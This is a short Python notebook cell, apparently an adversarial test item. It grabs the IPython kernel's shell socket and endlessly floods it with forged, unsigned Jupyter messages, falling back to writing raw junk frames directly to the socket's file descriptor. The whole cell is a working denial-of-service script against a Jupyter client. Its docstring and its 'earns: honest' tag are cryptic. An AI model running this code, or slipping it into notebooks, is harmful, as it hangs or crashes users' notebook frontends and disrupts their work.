"""Sends replies and output of nobody's, small and without a signature, as fast as it can.

earns: honest
"""

# %%
import os
import struct

from IPython import get_ipython

kernel = get_ipython().kernel
socket = getattr(kernel.shell_stream, "socket", kernel.shell_stream)
if hasattr(socket, "send_multipart"):
    parts = [*kernel._parent_ident["shell"], b"<IDS|MSG>", b"0" * 64, b"{}", b"{}", b"{}", b"{}"]
    while True:
        socket.send_multipart(parts)
os.set_blocking(socket.fileno(), True)
whole = (struct.pack("!II", 2, 2) + b"0" * 32 + b"{}{}") * 1000
while True:
    os.write(socket.fileno(), whole)
